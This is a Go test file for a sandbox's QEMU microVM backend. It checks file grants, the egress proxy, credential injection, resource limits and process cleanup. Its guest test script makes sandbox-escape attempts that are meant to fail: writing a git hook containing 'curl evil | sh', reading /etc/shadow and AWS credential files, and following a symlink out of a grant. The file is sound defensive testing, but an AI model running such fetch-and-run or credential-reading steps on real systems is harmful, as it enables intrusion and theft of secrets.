package sandbox_test

import (
	"bytes"
	"context"
	"crypto/x509"
	"fmt"
	"net"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/airlock-sandbox/airlock/egress"
	"github.com/airlock-sandbox/airlock/internal/airtest"
	"github.com/airlock-sandbox/airlock/policy"
	"github.com/airlock-sandbox/airlock/policy/budget"
	"github.com/airlock-sandbox/airlock/sandbox"
)

// The microVM backend (isolation microvm), attacked as the other backends
// are: QEMU's microvm machine under software emulation boots a guest
// kernel in which airlock's init applies the plan; the deadline and the
// output cap are enforced from the host. Each boot costs seconds, so one
// boot checks many things.

// requireMicroVM skips unless QEMU and a guest kernel with 9p are here, and
// returns a static airlock-init for the guest's initramfs.
func requireMicroVM(t *testing.T) string {
	t.Helper()
	airtest.RequireRoot(t)
	airtest.RequireBinary(t, "/usr/bin/qemu-system-x86_64")
	airtest.RequireBinary(t, "/usr/bin/python3")
	if m, _ := filepath.Glob("/lib/modules/*/kernel/fs/9p/9p.ko"); len(m) == 0 {
		airtest.SkipOrFail(t, "no guest kernel with the 9p modules (/lib/modules/*/kernel/fs/9p/9p.ko): apt-get install linux-image-amd64")
	}
	dir := t.TempDir()
	bin := filepath.Join(dir, "airlock-init")
	goBuild(t, "../cmd/airlock-init", bin)
	return bin
}

func runVM(t *testing.T, init string, spec policy.Spec, argv ...string) *sandbox.Report {
	t.Helper()
	if spec.Budget.Wall == 0 {
		spec.Budget.Wall = 60 * time.Second
	}
	p, err := policy.New(spec)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	rep, err := (&sandbox.Cmd{Config: sandbox.Config{Policy: p, Isolation: sandbox.IsolationMicroVM, Executable: init}, Args: argv, CommandIsGranted: true}).Run(ctx)
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

// qemuPids lists the live QEMU processes airlock started (their command
// line names the link's socket).
func qemuPids() []int { return qemuUnder(os.Getpid()) }

// qemuUnder lists the QEMU processes of a microVM run below root (its
// descendants): other tests may boot microVMs at the same time (go test
// runs packages in parallel, and the CSV example boots one).
func qemuUnder(root int) []int {
	var out []int
	for _, pid := range descendants(root) {
		b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
		if strings.Contains(string(b), "qemu-system") && strings.Contains(string(b), "/run/link.sock") {
			out = append(out, pid)
		}
	}
	return out
}

// markedUnder is marked, narrowed to the descendants of root.
func markedUnder(t *testing.T, root int, mark string) []int {
	t.Helper()
	below := map[int]bool{}
	for _, pid := range descendants(root) {
		below[pid] = true
	}
	var out []int
	for _, pid := range marked(t, mark) {
		if below[pid] {
			out = append(out, pid)
		}
	}
	return out
}

// descendants lists the live processes below root, from each one's
// parent in /proc/PID/stat.
func descendants(root int) []int {
	parent := map[int]int{}
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
		if err != nil {
			continue
		}
		// The fields after the command name, which ends with the last ')':
		// state, then the parent's pid.
		f := strings.Fields(string(b[bytes.LastIndexByte(b, ')')+1:]))
		if len(f) > 1 {
			if pp, err := strconv.Atoi(f[1]); err == nil {
				parent[pid] = pp
			}
		}
	}
	var out []int
	for pid := range parent {
		for p, hops := parent[pid], 0; p != 0 && hops < 64; p, hops = parent[p], hops+1 {
			if p == root {
				out = append(out, pid)
				break
			}
		}
	}
	return out
}

// alive returns those of pids that still run the process they named when
// the list was made (started at the same clock tick).
func alive(pids []int, started map[int]uint64) []int {
	var out []int
	for _, pid := range pids {
		if st, err := procStartTime(pid); err == nil && st == started[pid] {
			out = append(out, pid)
		}
	}
	return out
}

// TestIsolationMicroVM: in one boot, a granted file is read and an
// fs_write grant receives the output (owned by the caller), credentials
// outside the grants do not exist, an fs_deny path inside a grant is
// hidden, an existing git hooks folder and the fs_read grant are
// read-only, a symlink in a grant leads nowhere outside it, a tool not
// allowed does not run, the granted host
// answers through airlock's proxy (carried over the link) while a denied
// host and a listener on the host's loopback get no connection (the guest
// has no network device), the command runs on the guest's own kernel, and
// the report names the backend, the guest kernel, the accelerator and the
// denied host. Then the refusals that need no boot; the deadline, max_cpu
// and the output cap, from the host; max_memory and max_pids, from the
// guest's cgroup.
func TestIsolationMicroVM(t *testing.T) {
	init := requireMicroVM(t)
	tr := newTree(t)
	if err := os.Chmod(filepath.Dir(tr.root), 0o755); err != nil {
		t.Fatal(err)
	}
	var hits atomic.Int32
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go acceptCount(ln, &hits)
	host := strings.Split(ln.Addr().String(), ":")
	denied := filepath.Join(tr.work, "private")
	if err := os.MkdirAll(denied, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(denied, "key.pem"), []byte("DENIED-KEY"), 0o644); err != nil {
		t.Fatal(err)
	}
	gitRepo(t, tr.out)
	if err := os.Symlink(tr.secret, filepath.Join(tr.work, "escape")); err != nil {
		t.Fatal(err)
	}
	var allowedHits, deniedHits atomic.Int32
	allowed := serve(t, &allowedHits, "hello from allowed")
	deniedHost := serve(t, &deniedHits, "nope")
	code := fmt.Sprintf(`
import os, socket, sys, urllib.request
bad = []
print(urllib.request.urlopen("http://%s/", timeout=20).read().decode())
try:
    urllib.request.urlopen("http://%s/", timeout=20).read(); bad.append("denied host reached")
except Exception:
    pass
print(open(%q).read().strip())
open(%q, "w").write("written in the guest")
try:
    open(%q, "w").write("curl evil | sh"); bad.append("wrote a git hook")
except OSError:
    pass
for p in [%q, %q, "/etc/shadow", "/root", %q, %q]:
    try:
        os.listdir(p) if p == "/root" else open(p).read(); bad.append("read " + p)
    except OSError:
        pass
for h, port in [(%q, %s), ("10.0.2.2", 80), ("1.1.1.1", 443)]:
    try:
        socket.create_connection((h, port), timeout=3); bad.append("connected to %%s:%%s" %% (h, port))
    except OSError:
        pass
try:
    open(%q, "w").write("x"); bad.append("wrote into fs_read")
except OSError:
    pass
import subprocess
try:
    subprocess.run(["/usr/bin/id"], check=False); bad.append("ran a tool not allowed")
except OSError:
    pass
print("kernel", os.uname().release)
print("bad", bad)
sys.exit(1 if bad else 0)`, allowed, deniedHost, tr.work+"/data.csv", tr.out+"/vm.txt", tr.out+"/.git/hooks/post-checkout", tr.secret, filepath.Join(tr.home, ".aws", "credentials"),
		filepath.Join(denied, "key.pem"), filepath.Join(tr.work, "escape"), host[0], host[1], tr.work+"/new.txt")
	rep := runVM(t, init, policy.Spec{FSRead: []string{tr.work}, FSWrite: []string{tr.out}, FSDeny: []string{denied}, NetHosts: []string{allowed},
		AllowDowngrade: []string{"staged_writes"}}, "/usr/bin/python3", "-c", code)
	wantExit(t, rep, 0)
	if !strings.Contains(rep.Stdout, "hello from allowed") || !strings.Contains(rep.Stdout, "x,y") || !strings.Contains(rep.Stdout, "bad []") {
		t.Fatalf("stdout = %q, stderr = %q", rep.Stdout, rep.Stderr)
	}
	if hits.Load() != 0 || deniedHits.Load() != 0 {
		t.Fatalf("the host's loopback listener got %d connections from the guest, the denied server %d", hits.Load(), deniedHits.Load())
	}
	if !slices.ContainsFunc(rep.Denials, func(d sandbox.Denial) bool { return d.Rule == "net_hosts" && d.Target == deniedHost }) {
		t.Fatalf("the report has no net_hosts denial of %s: %+v", deniedHost, rep.Denials)
	}
	e := rep.Enforcement
	if e.Backend != "microvm" || e.Platform != "qemu-microvm/tcg" || e.GuestKernel == "" || e.Landlock == 0 || !e.Seccomp || !e.Namespaces || e.Egress != "proxy" {
		t.Fatalf("enforcement = %+v", e)
	}
	hostRelease, err := os.ReadFile("/proc/sys/kernel/osrelease")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(rep.Stdout, "kernel "+e.GuestKernel+"\n") || e.GuestKernel == strings.TrimSpace(string(hostRelease)) {
		t.Fatalf("the command did not run on the guest kernel %s (the host's is %s): %q", e.GuestKernel, hostRelease, rep.Stdout)
	}
	fi, err := os.Stat(filepath.Join(tr.out, "vm.txt"))
	if b, _ := os.ReadFile(filepath.Join(tr.out, "vm.txt")); err != nil || string(b) != "written in the guest" {
		t.Fatalf("vm.txt = %q, %v", b, err)
	}
	if fuid(fi) != uint32(os.Getuid()) {
		t.Fatalf("vm.txt belongs to uid %d, not to the caller %d", fuid(fi), os.Getuid())
	}
	if _, err := os.Lstat(filepath.Join(tr.out, ".git/hooks/post-checkout")); err == nil {
		t.Fatal("a git hook reached the host")
	}
	if p := qemuPids(); len(p) != 0 {
		t.Fatalf("QEMU outlived the run: %v", p)
	}

	t.Run("refusals", func(t *testing.T) {
		for _, c := range []struct {
			name string
			spec policy.Spec
			want string
		}{
			{"fs_write-folder-needs-staged-writes", policy.Spec{FSWrite: []string{tr.out}}, "staged_writes"},
		} {
			rep := runVM(t, init, c.spec, "/bin/true")
			if rep.ExitCode != 125 || !strings.Contains(rep.Error, c.want) {
				t.Errorf("%s: exit %d, error %q; want 125 naming %q", c.name, rep.ExitCode, rep.Error, c.want)
			}
		}
	})
	t.Run("placed-grants", func(t *testing.T) {
		proj, data := filepath.Join(tr.root, "proj"), filepath.Join(tr.root, "data")
		for _, d := range []string{proj, data} {
			if err := os.MkdirAll(d, 0o755); err != nil {
				t.Fatal(err)
			}
		}
		for name, body := range map[string]string{proj + "/deploy.sh": "echo deploy\n", proj + "/.env": "TOKEN=SECRET-ENV\n", data + "/in.csv": "a,b\n"} {
			if err := os.WriteFile(name, []byte(body), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		p := placedPolicy(t, proj, data, policy.Spec{AllowDowngrade: []string{"staged_writes"}, Budget: budget.Limits{Wall: 60 * time.Second}})
		ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
		defer cancel()
		rep, err := (&sandbox.Cmd{Config: sandbox.Config{Policy: p, Isolation: sandbox.IsolationMicroVM, Executable: init}, Args: []string{"/bin/sh", "-c",
			"cat /data/in.csv > /workspace/out.csv; cat /workspace/.env; echo x >> /workspace/deploy.sh; echo x > /data/new; ls " + proj + "; echo done"}, CommandIsGranted: true}).Run(ctx)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(rep.Stdout, "done") || strings.Contains(rep.Stdout, "SECRET-ENV") {
			t.Fatalf("stdout %q, stderr %q", rep.Stdout, rep.Stderr)
		}
		if b, err := os.ReadFile(filepath.Join(proj, "out.csv")); err != nil || string(b) != "a,b\n" {
			t.Fatalf("out.csv = %q, %v", b, err)
		}
		if b, _ := os.ReadFile(filepath.Join(proj, "deploy.sh")); string(b) != "echo deploy\n" {
			t.Fatalf("the protected deploy.sh was changed: %q", b)
		}
		if _, err := os.Stat(filepath.Join(data, "new")); err == nil {
			t.Fatal("the read-only placed grant was written")
		}
		if !strings.Contains(rep.Stderr, proj) {
			t.Fatalf("the host path of the placed grant exists inside: stderr %q", rep.Stderr)
		}
	})
	t.Run("environment", func(t *testing.T) {
		// The environment's root filesystem is exported as the host's
		// base is: a tool only it has runs in the guest.
		root := testRootfs(t)
		if _, err := os.Stat("/usr/bin/tree"); err == nil {
			t.Skip("this host has tree itself: the test needs a tool only the environment has")
		}
		rep := runVM(t, init, policy.Spec{Rootfs: root, FSWrite: []string{tr.out}, AllowedTools: []string{"tree"}, AllowDowngrade: []string{"staged_writes"}}, "tree", "-a", tr.out)
		wantExit(t, rep, 0)
		if rep.Enforcement.Rootfs != root || !strings.Contains(rep.Stdout, "vm.txt") {
			t.Fatalf("enforcement.rootfs %q, stdout %q", rep.Enforcement.Rootfs, rep.Stdout)
		}
	})
	t.Run("credentials", func(t *testing.T) {
		// The proxy adds the credential on HTTPS requests to its host,
		// terminating TLS with the run's CA, which reaches the guest in the
		// plan's trust bundle; the guest finds the value nowhere.
		api := &authEcho{}
		srv := httptest.NewTLSServer(api) // its certificate names example.com
		t.Cleanup(srv.Close)
		port := portOf(srv.Listener.Addr().String())
		roots := x509.NewCertPool()
		roots.AddCert(srv.Certificate())
		p, err := policy.New(policy.Spec{NetHosts: []string{"example.com:" + port, "127.0.0.1:" + port}, // the resolver answers 127.0.0.1, listed exactly
			Credentials: []policy.Credential{{Host: "example.com", Header: "Authorization", Env: "AIRLOCK_TEST_TOKEN"}},
			Budget:      budget.Limits{Wall: 60 * time.Second}})
		if err != nil {
			t.Fatal(err)
		}
		code := fmt.Sprintf(`
import os, urllib.request
secret = %[1]q[::-1]
print("env-clean", not any(secret in v for v in os.environ.values()))
req = urllib.request.Request("https://example.com:%[2]s/", headers={"Authorization": "Bearer the-agents-guess"})
r = urllib.request.urlopen(req, timeout=20)
print("proxy:", r.read().decode())
`, reverse(credSecret), port)
		ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
		defer cancel()
		rep, err := (&sandbox.Cmd{Config: sandbox.Config{Policy: p, Isolation: sandbox.IsolationMicroVM, Executable: init,
			Resolver: fakeResolver{netip.MustParseAddr("127.0.0.1")}, UpstreamRoots: roots,
			LookupEnv: func(n string) (string, bool) { return "Bearer " + credSecret, n == "AIRLOCK_TEST_TOKEN" }},
			Args: []string{"/usr/bin/python3", "-c", code}, CommandIsGranted: true}).Run(ctx)
		if err != nil {
			t.Fatal(err)
		}
		wantExit(t, rep, 0)
		if !strings.Contains(rep.Stdout, "env-clean True") || !strings.Contains(rep.Stdout, "proxy: you sent ["+egress.Redacted+"]") || strings.Contains(rep.Stdout+rep.Stderr, credSecret) {
			t.Fatalf("stdout %q, stderr %q", rep.Stdout, rep.Stderr)
		}
		if got := api.got(); len(got) != 1 || got[0] != "Bearer "+credSecret {
			t.Fatalf("the credential's host received %q, want the credential once", got)
		}
	})
	t.Run("deadline", func(t *testing.T) {
		start := time.Now()
		rep := runVM(t, init, policy.Spec{Budget: budget.Limits{Wall: 8 * time.Second}}, "/bin/sh", "-c", "while :; do :; done")
		wantHalt(t, rep, budget.MaxWall)
		if d := time.Since(start); d > 30*time.Second {
			t.Fatalf("the looping guest was killed after %s, max_wall 8s", d)
		}
		if p := qemuPids(); len(p) != 0 {
			t.Fatalf("QEMU outlived the deadline: %v", p)
		}
	})
	t.Run("max_cpu", func(t *testing.T) {
		// The host's cgroup counts the VM's CPU: a guest spinning past
		// max_cpu is halted from the host.
		rep := runVM(t, init, policy.Spec{Budget: budget.Limits{CPU: 4 * time.Second, Wall: 60 * time.Second}}, "/bin/sh", "-c", "while :; do :; done")
		wantHalt(t, rep, budget.MaxCPU)
		if rep.Enforcement.Cgroup == "" {
			t.Fatalf("no host cgroup around the VM: %+v", rep.Enforcement)
		}
	})
	t.Run("max_memory", func(t *testing.T) {
		// 150 MiB written fits the guest's RAM (max_memory + 128 MiB), not
		// the sandbox's cgroup in the guest.
		rep := runVM(t, init, policy.Spec{Budget: budget.Limits{Memory: 96 << 20}}, "/usr/bin/python3", "-c", "x = b'x' * (150 << 20)\nprint('allocated')")
		wantHalt(t, rep, budget.MaxMemory)
		if strings.Contains(rep.Stdout, "allocated") {
			t.Fatalf("150 MiB were written under max_memory 96 MiB: %q", rep.Stdout)
		}
	})
	t.Run("max_pids", func(t *testing.T) {
		rep := runVM(t, init, policy.Spec{AllowedTools: []string{"seq", "sleep"}, Budget: budget.Limits{Pids: 16}}, "/bin/sh", "-c", "for i in $(seq 40); do sleep 5 & done; wait")
		wantHalt(t, rep, budget.MaxPids)
	})
	t.Run("output-cap", func(t *testing.T) {
		rep := runVM(t, init, policy.Spec{Budget: budget.Limits{OutputBytes: 4096}}, "/usr/bin/yes")
		if rep.HaltedBy == nil || *rep.HaltedBy != "max_output_bytes" || len(rep.Stdout) > 4096 {
			t.Fatalf("halted_by %v, %d bytes", rep.HaltedBy, len(rep.Stdout))
		}
	})
}

// TestIsolationMicroVMKilled: when the supervisor of a microVM run is
// SIGKILLed, QEMU and the VMM launcher die with it (the launcher is pid 1
// of their pid namespace, tied to the supervisor by its death signal), no
// socket is left (the link's lives in the launcher's own root), and the
// next runs' janitors remove the work folder and the VM's cgroup.
func TestIsolationMicroVMKilled(t *testing.T) {
	init := requireMicroVM(t)
	// A folder of its own for the runs' work folders: an airlock process
	// of another test package (go test runs packages side by side) sweeps
	// a killed supervisor's folder from the shared TMPDIR, and the check
	// below would find nothing to prove.
	// (Directly in TMPDIR: the VMM's unprivileged uid must reach it.)
	runTmp, err := os.MkdirTemp("", "airlock-vmkilled-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(runTmp) })
	if err := os.Chmod(runTmp, 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("TMPDIR", runTmp)
	dir := filepath.Dir(init)
	goBuild(t, "../cmd/airlock", filepath.Join(dir, "airlock"))
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, filepath.Join(dir, "airlock"), "run", "--isolation", "microvm", "--max-wall", "90s",
		"--", "/bin/sh", "-c", "echo up; while :; do :; done")
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	up := make(chan bool, 1)
	go func() {
		buf := make([]byte, 16)
		n, _ := out.Read(buf)
		up <- strings.HasPrefix(string(buf[:n]), "up")
	}()
	select {
	case ok := <-up:
		if !ok {
			_ = cmd.Process.Kill()
			t.Fatal("the guest's command never started")
		}
	case <-time.After(60 * time.Second):
		_ = cmd.Process.Kill()
		t.Fatal("the guest's command never started in 60s")
	}
	// This run's QEMU and VMM launcher, found below the supervisor while
	// it lives: once it is killed they are no longer its descendants.
	qemu, vmm := qemuUnder(cmd.Process.Pid), markedUnder(t, cmd.Process.Pid, nsinitVMM)
	if len(qemu) == 0 || len(vmm) == 0 {
		_ = cmd.Process.Kill()
		t.Fatalf("QEMU %v or the VMM launcher %v missing while the guest runs: the check below would prove nothing", qemu, vmm)
	}
	started := map[int]uint64{}
	for _, pid := range append(slices.Clone(qemu), vmm...) {
		st, err := procStartTime(pid)
		if err != nil {
			_ = cmd.Process.Kill()
			t.Fatalf("the start time of %d, found running a moment ago: %v", pid, err)
		}
		started[pid] = st
	}
	killed := cmd.Process.Pid
	start, err := procStartTime(killed)
	if err != nil {
		_ = cmd.Process.Kill()
		t.Fatal(err)
	}
	cgroupDirs := ownCgroupDirs(t)
	_ = cmd.Process.Kill()
	_ = cmd.Wait()
	if !waitFor(20*time.Second, func() bool { return len(alive(qemu, started)) == 0 && len(alive(vmm, started)) == 0 }) {
		t.Fatalf("QEMU %v or the launcher %v outlived the supervisor", alive(qemu, started), alive(vmm, started))
	}
	leftovers := func() []string {
		m, _ := filepath.Glob(filepath.Join(os.TempDir(), fmt.Sprintf("airlock-%d-*", killed)))
		return m
	}
	if len(leftovers()) == 0 {
		t.Fatal("the killed supervisor left no work folder: the janitor check below would prove nothing")
	}
	killedBy := map[owner]bool{{killed, start}: true}
	if len(groupsOf(t, cgroupDirs, killedBy)) == 0 {
		t.Fatal("the killed supervisor left no cgroup around its VM: the janitor check below would prove nothing")
	}
	rep := runVM(t, init, policy.Spec{}, "/bin/true")
	wantExit(t, rep, 0)
	if l := leftovers(); len(l) != 0 {
		t.Fatalf("the janitor left %v", l)
	}
	// The cgroup janitor's shared pass has a cooldown (as in
	// TestSupervisorKill): later runs past it must remove the group.
	left := groupsOf(t, cgroupDirs, killedBy)
	for try := 0; len(left) > 0 && try < 3; try++ {
		time.Sleep(1500 * time.Millisecond)
		wantExit(t, run(t, policy.Spec{}, "/bin/true"), 0)
		left = groupsOf(t, cgroupDirs, killedBy)
	}
	if len(left) > 0 {
		t.Fatalf("the cgroup of the killed supervisor's VM survived the next runs' janitors: %v", left)
	}
}

// nsinitVMM is the VMM launcher's argv[0].
const nsinitVMM = "airlock-vmm"

// TestIsolationMicroVMSession: a session on one microVM keeps background
// processes between execs, serves the file API on its grants (through the
// VMM's export, so the guest sees what the API wrote), halts an exec past
// its timeout, and ends QEMU when it closes.
func TestIsolationMicroVMSession(t *testing.T) {
	init := requireMicroVM(t)
	tr := newTree(t)
	if err := os.Chmod(filepath.Dir(tr.root), 0o755); err != nil {
		t.Fatal(err)
	}
	private := filepath.Join(tr.out, "private")
	if err := os.MkdirAll(private, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(private, "key.pem"), []byte("DENIED-KEY"), 0o644); err != nil {
		t.Fatal(err)
	}
	p, err := policy.New(policy.Spec{FSWrite: []string{tr.out}, FSDeny: []string{private}, AllowedTools: []string{"sh", "sleep", "cat"}, AllowDowngrade: []string{"staged_writes"},
		Budget: budget.Limits{Wall: 90 * time.Second}})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	s, err := sandbox.NewSession(ctx, sandbox.Config{Policy: p, Isolation: sandbox.IsolationMicroVM, Executable: init})
	if err != nil {
		t.Fatalf("NewSession under microvm: %v", err)
	}
	defer s.Close()
	if err := s.Guard().Write(filepath.Join(tr.out, "in.txt"), []byte("from the API\n")); err != nil {
		t.Fatalf("file API write: %v", err)
	}
	rep, err := s.Exec(ctx, sandbox.ExecRequest{Args: []string{"sh", "-c", "cat in.txt > result.txt; (sleep 1000 &) ; echo started; exit 3"}})
	if err != nil || rep.ExitCode != 3 || rep.Stdout != "started\n" {
		t.Fatalf("first exec = %+v, %v", rep, err)
	}
	rep, err = s.Exec(ctx, sandbox.ExecRequest{Args: []string{"sh", "-c", "cat result.txt; cat /proc/[0-9]*/comm"}})
	if err != nil || rep.ExitCode != 0 || !strings.HasPrefix(rep.Stdout, "from the API\n") || !strings.Contains(rep.Stdout, "sleep\n") {
		t.Fatalf("second exec = %+v, %v", rep, err)
	}
	if got, err := s.Guard().Read(filepath.Join(tr.out, "result.txt")); err != nil || string(got) != "from the API\n" {
		t.Fatalf("file API read = %q, %v", got, err)
	}
	// What QEMU serves the guest hides the fs_deny folder too, not only
	// the guest's init: the VMM's own root shows it empty.
	vmm := markedUnder(t, os.Getpid(), nsinitVMM)
	if len(vmm) != 1 {
		t.Fatalf("VMM launchers: %v, want one", vmm)
	}
	ents, err := os.ReadDir(fmt.Sprintf("/proc/%d/root/export%s", vmm[0], private))
	if err != nil || len(ents) != 0 {
		t.Fatalf("the VMM's export of the fs_deny folder lists %v (%v), want it empty", ents, err)
	}
	if rep, err := s.Exec(ctx, sandbox.ExecRequest{Args: []string{"sh", "-c", "cat private/key.pem; echo rc=$?"}}); err != nil || strings.Contains(rep.Stdout, "DENIED") || !strings.Contains(rep.Stdout, "rc=1") {
		t.Fatalf("reading the fs_deny file = %+v, %v", rep, err)
	}
	// QEMU runs in airlock's sandbox on the host: an unprivileged host uid,
	// no capabilities, no_new_privs, a seccomp filter, its own pid and
	// network namespaces, and a root holding only what it needs.
	qemu := qemuPids()
	if len(qemu) != 1 {
		t.Fatalf("QEMU processes: %v, want one", qemu)
	}
	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", qemu[0]))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"CapEff:\t0000000000000000", "CapPrm:\t0000000000000000", "CapBnd:\t0000000000000000", "NoNewPrivs:\t1", "Seccomp:\t2"} {
		if !strings.Contains(string(status), want+"\n") {
			t.Errorf("QEMU's status lacks %q:\n%s", want, status)
		}
	}
	if strings.Contains(string(status), "Uid:\t0\t") {
		t.Errorf("QEMU runs as host root:\n%s", status)
	}
	for _, ns := range []string{"pid", "net", "mnt", "user"} {
		mine, _ := os.Readlink("/proc/self/ns/" + ns)
		its, err := os.Readlink(fmt.Sprintf("/proc/%d/ns/%s", qemu[0], ns))
		if err != nil || its == mine {
			t.Errorf("QEMU shares the host's %s namespace (%s, %v)", ns, its, err)
		}
	}
	fds, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", qemu[0]))
	for _, fd := range fds {
		if l, _ := os.Readlink(fmt.Sprintf("/proc/%d/fd/%s", qemu[0], fd.Name())); strings.Contains(l, "airlock-init") {
			t.Errorf("QEMU inherited fd %s -> %s from its launcher", fd.Name(), l)
		}
	}
	var top []string
	ents, err = os.ReadDir(fmt.Sprintf("/proc/%d/root/", qemu[0]))
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range ents {
		top = append(top, e.Name())
	}
	for _, name := range top {
		if !slices.Contains([]string{".empty", "bin", "dev", "export", "lib", "lib32", "lib64", "libx32", "proc", "run", "sbin", "usr", "vm"}, name) {
			t.Errorf("QEMU's root holds %q: %v", name, top)
		}
	}
	rep, err = s.Exec(ctx, sandbox.ExecRequest{Args: []string{"sleep", "30"}, Timeout: 2 * time.Second})
	if err != nil || rep.HaltedBy == nil {
		t.Fatalf("exec past its timeout = %+v, %v; want halted", rep, err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if !waitFor(10*time.Second, func() bool { return len(qemuPids()) == 0 }) {
		t.Fatalf("QEMU outlived the session: %v", qemuPids())
	}
}
